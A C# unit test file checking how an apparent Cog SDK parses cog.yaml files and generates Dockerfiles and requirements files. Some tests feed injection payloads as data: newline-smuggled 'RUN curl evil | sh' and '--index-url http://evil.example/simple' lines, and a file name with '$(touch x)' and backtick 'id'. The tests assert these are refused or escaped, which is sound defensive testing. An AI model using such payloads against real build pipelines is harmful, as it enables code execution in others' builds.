using Cog.Sdk.Core.Diagnostics;
using Cog.Sdk.Core.Generate;
using Cog.Sdk.Core.Parse;
using Cog.Sdk.Core.Tests.Parse;

namespace Cog.Sdk.Core.Tests.Validate;

/// <summary>
/// cog.yaml files as users have them, through the whole core pipeline (parse, validate, resolve, generate): keys of
/// every era, pip's requirement forms, local packages, and values that try to break out of the generated files.
/// </summary>
public class RealConfigTests
{
    private const string Predictor = "class Predictor:\n    pass\n";

    private sealed record Outcome(CogProject? Project, DiagnosticBag Diagnostics, GeneratedDockerfile? Dockerfile)
    {
        public IEnumerable<string> Codes(DiagnosticSeverity severity) =>
            Diagnostics.Where(d => d.Severity == severity).Select(d => $"{d.Code}@{d.Location.Line},{d.Location.Column}");

        public string Requirements => Dockerfile!.ContextFiles[DockerfileGenerator.RequirementsFile];
    }

    private static Outcome Build(TempProject project, RuntimeSource runtime = RuntimeSource.Local)
    {
        var diagnostics = new DiagnosticBag();
        CogProject? loaded = CogProject.Load(new CogProjectOptions(project.ConfigPath), diagnostics);
        GeneratedDockerfile? dockerfile = loaded is null ? null
            : DockerfileGenerator.Generate(loaded.CreateDockerfileSpec(new ImageOptions { Runtime = runtime }), diagnostics);
        return new Outcome(loaded, diagnostics, dockerfile);
    }

    [Fact]
    public void A_2021_file_with_workdir_architectures_examples_and_post_install_builds_as_it_did()
    {
        using var project = new TempProject()
            .WithConfig(
                "model: infer.py:Model\n" +
                "examples:\n" +
                "  - input:\n" +
                "      image: \"@examples/cat.jpg\"\n" +
                "      labels: hot-dog,not-hot-dog\n" +
                "    output: '{\"hot-dog\":0.4}'\n" +
                "environment:\n" +
                "  architectures:\n" +
                "    - cpu\n" +
                "    - gpu\n" +
                "  python_version: 3.8\n" +
                "  python_packages:\n" +
                "    - numpy==1.20.1\n" +
                "  build_requires_gpu: true\n" +
                "  post_install:\n" +
                "    - \"python GetCode.py --dataset_name ffhq\"\n" +
                "workdir: global\n")
            .WithFile("global/infer.py", Predictor).WithFile("global/GetCode.py");

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Codes(DiagnosticSeverity.Error));
        Assert.Equal(new[] { "COG2054@14,3", "COG2054@15,3", "COG2054@17,1", "COG2054@2,1", "COG2054@8,3", "COG2059@11,19" }, outcome.Codes(DiagnosticSeverity.Warning).OrderBy(c => c, StringComparer.Ordinal));
        CogConfig config = outcome.Project!.Config;
        Assert.True(config.Gpu.Value);
        var example = Assert.Single(config.Examples);
        Assert.Equal("@examples/cat.jpg", example.Input["image"]);
        Assert.Equal("{\"hot-dog\":0.4}", example.Output);

        string[] lines = outcome.Dockerfile!.Text.Split('\n');
        int copy = Array.IndexOf(lines, "COPY src/ /src/");
        Assert.Equal("WORKDIR /src/global", lines[copy + 1]);
        Assert.Equal("RUN [\"/bin/sh\", \"-c\", \"python GetCode.py --dataset_name ffhq\"]", lines[copy + 2]);
        Assert.Contains("WORKDIR /src/global", lines.Skip(copy + 3));
        Assert.DoesNotContain("WORKDIR /src", lines);
    }

    [Fact]
    public void A_predictor_missing_from_the_workdir_is_reported_with_its_path_in_the_project()
    {
        using var project = new TempProject().WithConfig("model: infer.py:Model\nworkdir: global\nenvironment: {}\n").WithFile("infer.py", Predictor);
        System.IO.Directory.CreateDirectory(Path.Combine(project.Directory, "global"));

        Outcome outcome = Build(project);

        Diagnostic error = Assert.Single(outcome.Diagnostics, d => d.IsError);
        Assert.Equal("COG2048", error.Code);
        Assert.Contains("'global/infer.py'", error.Message);
    }

    [Theory]
    [InlineData("../outside", "leaves the project folder")]
    [InlineData("missing", "is not a folder in the project")]
    [InlineData("a$HOME", "holds characters")]
    public void A_workdir_that_cannot_work_is_COG2056(string workdir, string reason)
    {
        using var project = new TempProject().WithConfig($"model: infer.py:Model\nworkdir: \"{workdir}\"\nenvironment: {{}}\n").WithFile("infer.py", Predictor);
        System.IO.Directory.CreateDirectory(Path.Combine(project.Directory, "a$HOME"));

        Outcome outcome = Build(project);

        Diagnostic error = Assert.Single(outcome.Diagnostics, d => d.Code == "COG2056");
        Assert.Contains(reason, error.Message);
    }

    [Fact]
    public void Keys_of_current_and_retired_cog_are_read_with_what_became_of_them()
    {
        using var project = new TempProject()
            .WithConfig(
                "model: resnet-managed-weights\n" +
                "build:\n" +
                "  python_version: \"3.14\"\n" +
                "  fast: true\n" +
                "  cog_runtime: true\n" +
                "  python_overrides: overrides.txt\n" +
                "  sdk_version: \"0.17.0rc2\"\n" +
                "  environment:\n" +
                "    - HF_HOME=/src/hf\n" +
                "run: \"run.py:run\"\n" +
                "concurrency: 32\n" +
                "tests:\n" +
                "  - inputs: {}\n" +
                "weights:\n" +
                "  - name: resnet50\n" +
                "    source: {uri: \"hf://microsoft/resnet-50\"}\n" +
                "    target: /src/weights/resnet50\n")
            .WithFile("run.py", Predictor);

        Outcome outcome = Build(project, RuntimeSource.PyPI);

        Assert.Empty(outcome.Codes(DiagnosticSeverity.Error));
        Assert.Equal(
            new[] { "COG2054@1,1", "COG2054@12,1", "COG2054@14,1", "COG2054@4,3", "COG2054@5,3", "COG2054@6,3", "COG2054@7,3", "COG2054@8,3", "COG2055@11,14" },
            outcome.Codes(DiagnosticSeverity.Warning).OrderBy(c => c, StringComparer.Ordinal));
        CogConfig config = outcome.Project!.Config;
        Assert.Equal(ConfigForm.Current, config.Form);
        Assert.Equal(32, config.ConcurrencyMax!.Value);
        Assert.Equal("HF_HOME", Assert.Single(config.Environment).Name);
        Assert.Contains("\"cog==0.17.0rc2\"", outcome.Dockerfile!.Text);
        Assert.Contains("FROM python:3.14-slim", outcome.Dockerfile.Text);
    }

    [Fact]
    public void A_misspelt_key_stays_an_error_and_retired_keys_are_not_offered_as_what_it_meant()
    {
        using var project = new TempProject().WithConfig("build:\n  fsat: true\n  pyhton_version: \"3.12\"\n");

        Outcome outcome = Build(project);

        Assert.Equal(new[] { "COG2013@2,3", "COG2013@3,3" }, outcome.Codes(DiagnosticSeverity.Error));
        Assert.DoesNotContain("'fast'", outcome.Diagnostics[0].Message);
        Assert.Contains("did you mean 'python_version'?", outcome.Diagnostics[1].Message);
    }

    [Theory]
    [InlineData("cuda: 11.0", "11.0", "11")]
    [InlineData("python_version: 3.10", "3.10", "3.1")]
    public void An_unquoted_version_is_read_as_written_with_a_warning(string line, string asWritten, string asNumber)
    {
        using var project = new TempProject().WithConfig($"build:\n  gpu: true\n  {line}\npredict: \"predict.py:Predictor\"\n").WithFile("predict.py", Predictor);

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Codes(DiagnosticSeverity.Error));
        Diagnostic warning = Assert.Single(outcome.Diagnostics, d => d.Code == "COG2023");
        Assert.Contains($"the number {asNumber}; it is read as written, \"{asWritten}\"", warning.Message);
    }

    [Fact]
    public void Pip_forms_pass_and_global_options_move_to_lines_of_their_own()
    {
        using var project = new TempProject()
            .WithConfig("build:\n  gpu: true\n  cuda: \"11.3\"\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("requirements.txt",
                "torch==1.11.0 --extra-index-url=https://download.pytorch.org/whl/cu113\n" +
                "git+https://github.com/openai/CLIP.git\n" +
                "name @ https://host/pkg-0.0.6-cp311-cp311-linux_x86_64.whl#frag\n" +
                "https://host/other-1.0-py3-none-any.whl\n" +
                "--pre -f https://download.pytorch.org/whl/nightly/cu113/torch_nightly.html\n" +
                "pkg==1.0 --trusted-host mirror.example.org --hash=sha256:abc\n");

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Codes(DiagnosticSeverity.Error));
        Assert.Equal(
            "--extra-index-url https://download.pytorch.org/whl/cu113\n" +
            "--trusted-host mirror.example.org\n" +
            "torch==1.11.0\n" +
            "git+https://github.com/openai/CLIP.git\n" +
            "name @ https://host/pkg-0.0.6-cp311-cp311-linux_x86_64.whl#frag\n" +
            "https://host/other-1.0-py3-none-any.whl\n" +
            "--pre -f https://download.pytorch.org/whl/nightly/cu113/torch_nightly.html\n" +
            "pkg==1.0 --hash sha256:abc\n",
            outcome.Requirements);
    }

    [Fact]
    public void Local_archives_are_staged_and_their_lines_rewritten_as_cog_does()
    {
        using var project = new TempProject()
            .WithConfig("build:\n  python_requirements: reqs/requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("dist/local_pkg-0.1.0.tar.gz", "tar")
            .WithFile("dist/local zip pkg-0.2.0.zip", "zip")
            .WithFile("wheels/w-1.0-py3-none-any.whl", "whl")
            .WithFile("reqs/requirements.txt",
                "../dist/local_pkg-0.1.0.tar.gz\n" +
                "../dist/local zip pkg-0.2.0.zip\n" +
                "w[extra] @ file:../wheels/w-1.0-py3-none-any.whl ; python_version >= \"3.8\"\n");

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Diagnostics);
        Assert.Equal(
            "/tmp/local_packages/dist/local_pkg-0.1.0.tar.gz\n" +
            "/tmp/local_packages/dist/local zip pkg-0.2.0.zip\n" +
            "w[extra] @ file:///tmp/local_packages/wheels/w-1.0-py3-none-any.whl ; python_version >= \"3.8\"\n",
            outcome.Requirements);
        Assert.Equal(new[] { "dist/local zip pkg-0.2.0.zip", "dist/local_pkg-0.1.0.tar.gz", "wheels/w-1.0-py3-none-any.whl" }, outcome.Dockerfile!.LocalPackages.OrderBy(p => p, StringComparer.Ordinal));
        string[] lines = outcome.Dockerfile.Text.Split('\n');
        Assert.True(Array.IndexOf(lines, "COPY cog/local_packages/ /tmp/local_packages/") < Array.FindIndex(lines, l => l.Contains("pip\", \"install\", \"-r\"")));
        Assert.Contains(Path.Combine(project.Directory, "wheels", "w-1.0-py3-none-any.whl"), outcome.Project!.InputFiles);

        var context = BuildContext.Collect(project.Directory, null, outcome.Dockerfile.ContextFiles, null, outcome.Dockerfile.LocalPackages);
        Assert.Contains(context.Files, f => f.ContextPath == "cog/local_packages/dist/local zip pkg-0.2.0.zip");
    }

    [Fact]
    public void A_relative_file_url_is_read_as_the_project_file_it_names_with_COG2060_saying_how_to_write_it()
    {
        // pip reads file://my_package-... as a host name; Cog's own test fixture (local-whl-install) writes it so.
        using var project = new TempProject()
            .WithConfig("build:\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("my_package-0.1-py3-none-any.whl", "whl")
            .WithFile("requirements.txt", "numpy==1.26.4\nmy_package @ file://my_package-0.1-py3-none-any.whl\n");

        Outcome outcome = Build(project);

        Assert.Equal(new[] { "COG2060@2,1" }, outcome.Codes(DiagnosticSeverity.Warning));
        Diagnostic warning = outcome.Diagnostics.Single();
        Assert.Equal(Path.Combine(project.Directory, "requirements.txt"), warning.Location.File);
        Assert.Contains("\"my_package @ ./my_package-0.1-py3-none-any.whl\"", warning.Message);
        Assert.Equal(new[] { "my_package-0.1-py3-none-any.whl" }, outcome.Dockerfile!.LocalPackages);
        Assert.Equal("numpy==1.26.4\nmy_package @ file:///tmp/local_packages/my_package-0.1-py3-none-any.whl\n", outcome.Requirements);

        // Written as the warning says, the line installs the same file, without a warning.
        project.WithFile("requirements.txt", "numpy==1.26.4\nmy_package @ ./my_package-0.1-py3-none-any.whl\n");
        Outcome followed = Build(project);
        Assert.Empty(followed.Diagnostics);
        Assert.Equal(outcome.Requirements, followed.Requirements);
    }

    [Theory]
    [InlineData("./dist/missing-1.0.tar.gz", "COG2057", "does not exist")]
    [InlineData("../outside-1.0-py3-none-any.whl", "COG2057", "outside the project folder")]
    [InlineData("./dist/folder.whl", "COG2057", "is a folder")]
    [InlineData("./pkg", "COG2058", "folder './pkg'")]
    [InlineData("-e ./pkg", "COG2058", "folder './pkg'")]
    [InlineData("-f ./wheels", "COG2058", "folder './wheels'")]
    public void A_local_package_that_cannot_be_installed_is_an_error_at_its_line(string line, string code, string message)
    {
        using var project = new TempProject()
            .WithConfig("build:\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("pkg/setup.py").WithFile("wheels/a.whl").WithFile("dist/folder.whl/x")
            .WithFile("requirements.txt", "numpy==1.26.4\n" + line + "\n");
        File.WriteAllText(Path.Combine(Path.GetDirectoryName(project.Directory)!, "outside-1.0-py3-none-any.whl"), "x");

        Outcome outcome = Build(project);

        Diagnostic error = Assert.Single(outcome.Diagnostics, d => d.IsError);
        Assert.Equal(code, error.Code);
        Assert.Equal((Path.Combine(project.Directory, "requirements.txt"), 2), (error.Location.File, error.Location.Line));
        Assert.Contains(message, error.Message);
    }

    [Fact]
    public void A_link_to_a_file_outside_the_project_is_not_staged()
    {
        using var project = new TempProject()
            .WithConfig("build:\n  python_packages: [\"./leak-1.0-py3-none-any.whl\"]\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor);
        string secret = Path.Combine(Path.GetDirectoryName(project.Directory)!, "secret.txt");
        File.WriteAllText(secret, "secret");
        File.CreateSymbolicLink(Path.Combine(project.Directory, "leak-1.0-py3-none-any.whl"), secret);

        Outcome outcome = Build(project);

        Diagnostic error = Assert.Single(outcome.Diagnostics, d => d.IsError);
        Assert.Equal("COG2057", error.Code);
        Assert.Contains("link to a file outside", error.Message);
    }

    public static TheoryData<string, string> BreakOuts => new()
    {
        // python_packages entries are lines of the generated requirements.txt: none may become two lines or join the next.
        { "build:\n  python_packages:\n    - \"numpy==1.0\\n--index-url http://evil.example/simple\"\n", "COG2031@3,7" },
        { "build:\n  python_packages:\n    - \"numpy==1.0\\r--index-url http://evil.example/simple\"\n", "COG2031@3,7" },
        { "build:\n  python_packages:\n    - \"numpy==1.0 \\\\\"\n    - \"--index-url http://evil.example/simple\"\n", "COG2031@3,7" },
        { "build:\n  python_packages:\n    - \"name @ https://x/y.whl\\nRUN curl evil | sh\"\n", "COG2031@3,7" },
        { "build:\n  python_packages:\n    - \"./dist/x\\nRUN evil.whl\"\n", "COG2031@3,7" },
        // values that reach the Dockerfile itself
        { "build:\n  sdk_version: \"0.17.0\\nRUN curl evil | sh\"\n", "COG2031@2,16" },
        { "build:\n  post_install_typo: x\n", "COG2013@2,3" },
    };

    [Theory]
    [MemberData(nameof(BreakOuts))]
    public void Values_that_would_break_out_of_the_generated_files_are_refused_at_their_line(string yaml, string expected)
    {
        using var project = new TempProject().WithConfig(yaml + "predict: \"predict.py:Predictor\"\n").WithFile("predict.py", Predictor);

        Outcome outcome = Build(project);

        Assert.Contains(expected, outcome.Codes(DiagnosticSeverity.Error));
        Assert.Null(outcome.Dockerfile);
    }

    [Fact]
    public void Original_form_commands_and_workdir_that_would_break_out_are_refused()
    {
        using var project = new TempProject()
            .WithConfig("model: infer.py:Model\nenvironment:\n  post_install:\n    - \"echo a\\nRUN curl evil\"\nworkdir: \"global\\nRUN curl evil\"\n")
            .WithFile("infer.py", Predictor);

        Outcome outcome = Build(project);

        Assert.Contains("COG2030@4,7", outcome.Codes(DiagnosticSeverity.Error));
        Assert.Contains("COG2031@5,10", outcome.Codes(DiagnosticSeverity.Error));
        Assert.Null(outcome.Dockerfile);
    }

    [Fact]
    public void Hostile_local_archive_names_stay_out_of_the_dockerfile()
    {
        const string name = "a b$(touch x)'\"`id`.whl";
        using var project = new TempProject()
            .WithConfig("build:\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("dist/" + name, "whl")
            .WithFile("requirements.txt", "./dist/" + name + "\n");

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Codes(DiagnosticSeverity.Error));

        // Only the configuration label mentions it, as an escaped string; no instruction carries the name.
        string[] instructions = outcome.Dockerfile!.Text.Split('\n');
        Assert.DoesNotContain(instructions, l => l.Contains("touch") && !l.StartsWith("LABEL ", StringComparison.Ordinal));
        Assert.Contains("a b\\$(touch x)", Assert.Single(instructions, l => l.StartsWith("LABEL ", StringComparison.Ordinal)));
        Assert.Equal("/tmp/local_packages/dist/" + name + "\n", outcome.Requirements);
        Assert.Equal(new[] { "dist/" + name }, outcome.Dockerfile.LocalPackages);
    }

    [Fact]
    public void Constraints_files_reach_pip_as_a_constraints_file()
    {
        using var project = new TempProject()
            .WithConfig("build:\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor)
            .WithFile("requirements.txt", "-c pins.txt\nrequests\n")
            .WithFile("pins.txt", "urllib3<2\n");

        Outcome outcome = Build(project);

        Assert.Equal("-c /tmp/cog/constraints.txt\nrequests\n", outcome.Requirements);
        Assert.Equal("urllib3<2\n", outcome.Dockerfile!.ContextFiles[DockerfileGenerator.ConstraintsFile]);
        Assert.Contains("COPY cog/constraints.txt /tmp/cog/constraints.txt", outcome.Dockerfile.Text);
    }

    [Theory]
    [InlineData("3.14", false, "python:3.14-slim")]
    [InlineData("3.15", false, "python:3.15-rc-slim")]
    [InlineData("3.14", true, "nvidia/cuda:11.8.0-cudnn8-devel-ubuntu22.04")]
    public void Python_3_14_and_3_15_resolve_from_the_table(string python, bool gpu, string image)
    {
        using var project = new TempProject()
            .WithConfig($"build:\n  gpu: {(gpu ? "true" : "false")}\n  python_version: \"{python}\"\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor);

        Outcome outcome = Build(project);

        Assert.Empty(outcome.Diagnostics);
        Assert.Equal(image, outcome.Project!.Resolution.BaseImage);
        Assert.Equal(gpu, outcome.Dockerfile!.Text.Contains($"uv python install {python}"));
    }

    [Fact]
    public void A_framework_without_wheels_for_the_python_is_a_warning_at_its_line()
    {
        using var project = new TempProject()
            .WithConfig("build:\n  python_version: \"3.12\"\n  python_packages:\n    - torch==1.13.1\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor);

        Outcome outcome = Build(project);

        Diagnostic warning = Assert.Single(outcome.Diagnostics);
        Assert.Equal("COG2223@4,7", $"{warning.Code}@{warning.Location.Line},{warning.Location.Column}");
        Assert.Contains("Python 3.7, 3.8, 3.9, 3.10", warning.Message);
    }

    [Theory]
    [InlineData("  cuda: \"12.1\"\n", null)]
    [InlineData("", "COG2203")]
    public void An_unpinned_torch_on_gpu_needs_cuda_from_cog_yaml(string cuda, string? error)
    {
        using var project = new TempProject()
            .WithConfig("build:\n  gpu: true\n" + cuda + "  python_packages:\n    - torch\npredict: \"predict.py:Predictor\"\n")
            .WithFile("predict.py", Predictor);

        Outcome outcome = Build(project);

        Assert.Equal(error, outcome.Diagnostics.FirstOrDefault(d => d.IsError)?.Code);
        if (error is null)
        {
            Assert.Equal("12.1", outcome.Project!.Resolution.CudaVersion);
        }
    }
}
